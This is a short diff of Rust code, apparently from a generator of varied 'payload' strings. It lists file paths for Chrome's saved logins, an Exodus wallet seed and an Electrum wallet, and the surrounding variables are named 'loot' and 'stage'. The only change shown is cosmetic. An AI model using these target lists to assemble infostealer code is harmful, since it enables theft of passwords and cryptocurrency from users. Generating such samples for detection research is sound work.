@@ -49,7 +49,7 @@ impl Varied {
     fn payload(&self) -> String {
         let (places, loot, stage) = (self.word(1), self.word(2), self.word(3));
         let name = &self.name;
-        let mut wanted = vec![
+        let mut wanted = [
             "os.path.join(os.environ.get('LOCALAPPDATA', ''), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')",
             "os.path.join(os.environ.get('APPDATA', ''), 'Exodus', 'exodus.wallet', 'seed.seco')",
             "os.path.join(os.environ.get('APPDATA', ''), 'Electrum', 'wallets', 'default_wallet')",
